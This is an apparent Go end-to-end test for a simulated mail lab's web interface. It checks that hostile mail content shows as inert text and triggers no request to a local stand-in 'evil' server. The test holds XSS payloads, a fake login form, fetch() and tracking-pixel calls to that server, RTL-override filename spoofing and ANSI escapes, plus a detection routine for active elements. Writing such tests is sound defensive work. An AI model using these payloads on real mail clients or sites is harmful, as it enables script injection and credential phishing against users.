package e2e

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/smtp"
	"strings"
	"sync/atomic"
	"testing"

	"smtplab/sim/lab"
	"smtplab/sim/vnet"
)

// smuggle has a program on a PC send octets as a mail, which no form would make.
func (w *world) smuggle(host, mail string) {
	w.t.Helper()
	failed := io.ErrNoProgress
	w.view(func(l *lab.Lab) {
		err := l.Go(host, func(h *vnet.Host) { failed = submit(h, mail) })
		if err != nil {
			w.t.Error(err)
		}
		l.Settle()
	})
	if failed != nil {
		w.t.Fatal(failed)
	}
}

func submit(h *vnet.Host, mail string) error {
	conn, err := h.DialConn(netip.MustParseAddrPort("192.168.11.4:25"))
	if err != nil {
		return err
	}
	c, err := smtp.NewClient(conn, "192.168.11.4")
	if err != nil {
		return err
	}
	if err := c.Mail("pc3@email.com"); err != nil {
		return err
	}
	if err := c.Rcpt("pc2@email.com"); err != nil {
		return err
	}
	body, err := c.Data()
	if err != nil {
		return err
	}
	if _, err := io.WriteString(body, strings.ReplaceAll(mail, "\n", "\r\n")); err != nil {
		return err
	}
	if err := body.Close(); err != nil {
		return err
	}
	return c.Quit()
}

// What is in a mail is shown everywhere and acts nowhere: nothing runs, nothing is fetched, nothing is sent.
func TestHostileMail(t *testing.T) {
	t.Parallel()
	var visits atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { visits.Add(1) }))
	defer evil.Close()
	s := newSite(t)
	w := s.newLab(t)
	p := s.browse(t, look{})
	p.openLab(w)
	const rtl, ansi = "\u202e", "\x1b[31;5m"
	hostile := `"><script>alert(1)</script><img src="` + evil.URL + `/x.png" onerror="alert(1)"><svg onload=alert(1)>`
	w.mailed("pc1", lab.Mail{To: "pc2@email.com", Subject: hostile, Body: hostile + "\n</textarea><base href=" + evil.URL + ">"})
	w.mailed("pc1", lab.Mail{To: "pc2@email.com", Subject: "invoice" + rtl + "fdp.exe", Body: ansi + rtl})
	w.smuggle("pc3", "From: \"<b onclick=alert(1)>"+ansi+"\" <pc3@email.com>\nTo: pc2@email.com\nSubject: =?utf-8?Q?=E2=80=AE=3Cscript=3E?=\n"+
		"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"+
		`<h1>Win a prize</h1><script>fetch("`+evil.URL+`/script")</script><img src="`+evil.URL+`/pixel.png" onerror="alert(1)">`+
		`<link rel="stylesheet" href="`+evil.URL+`/style.css"><div style="background:url(`+evil.URL+`/bg.png)">styled</div>`+
		`<iframe src="`+evil.URL+`/frame"></iframe><meta http-equiv="refresh" content="0;url=`+evil.URL+`/refresh">`+
		`<form action="`+evil.URL+`/form"><input name="password"><button>Log in</button></form>`+
		`<a href="javascript:alert(1)">here</a><video src="`+evil.URL+`/v.mp4" autoplay></video><object data="`+evil.URL+`/o"></object>`+"\n")
	w.mailed("pc1", lab.Mail{To: `"<img src=x onerror=alert(1)>"@email.com`, Subject: hostile + rtl})
	w.fetched("pc2")

	p.sees(".row .line", "<script>alert(1)</script>")
	inbox := w.url("/hosts/pc2/inbox")
	for _, path := range []string{inbox, inbox + "/1", inbox + "/1?view=headers", inbox + "/1?view=source", inbox + "/2", inbox + "/2?view=headers", inbox + "/2?view=source",
		inbox + "/3", inbox + "/3?view=headers", inbox + "/3?view=source", w.url("/hosts/pc2/compose?reply=1"), w.url("/hosts/pc2/compose?reply=2"), w.url("/hosts/pc1/sent"), w.url("/hosts/server"), w.url("/notices")} {
		p.openWindow(path)
		p.until(path+" is open", `(url) => document.getElementById("window").dataset.url === url`, path)
		p.harmless(path, evil.URL)
	}

	// Only the frame shows HTML, shut off from the page.
	p.openWindow(inbox + "/3?view=html")
	p.sees("#window iframe.mail__html[sandbox='']", "")
	p.until("the frame is loaded", `() => performance.getEntriesByType("resource").some((e) => e.initiatorType === "iframe" && e.responseEnd > 0)`)
	p.harmless("the frame", evil.URL)

	for _, path := range []string{inbox + "/1", inbox + "/3?view=html", inbox + "/3/html", w.url("/conversations/1"), w.url("/conversations/2"), w.url("")} {
		p.goTo(path)
		p.harmless(path, evil.URL)
	}
	p.goTo(inbox + "/3/html")
	p.sees("h1", "Win a prize")
	p.sees("div", "styled")
	if n := visits.Load(); n > 0 {
		t.Errorf("somebody was visited %d times", n)
	}
}

// harmless fails when the page has grown an element or an attribute that acts, or text runs backwards in it.
func (p *tab) harmless(where, evil string) {
	p.t.Helper()
	bad, err := eval[[]string](p, `(evil) => {
		const all = [...document.querySelectorAll("*")];
		const acts = (e) => [...e.attributes].some((a) => a.name.startsWith("on") || /^\s*javascript:/i.test(a.value) || a.value.startsWith(evil)) ||
			e.matches("base, object, embed, video, form[action^='http']:not([action^='" + location.origin + "']), meta[http-equiv]") ||
			e.matches("script") && !e.src.startsWith(location.origin + "/static/");
		return [...all.filter(acts).map((e) => e.outerHTML.slice(0, 200)), ...(/[\u202e\u001b]/.test(document.body.innerText) ? ["an invisible character is shown"] : [])];
	}`, evil)
	p.do(err)
	if len(bad) > 0 {
		p.t.Errorf("%s: %s", where, strings.Join(bad, "\n"))
	}
}
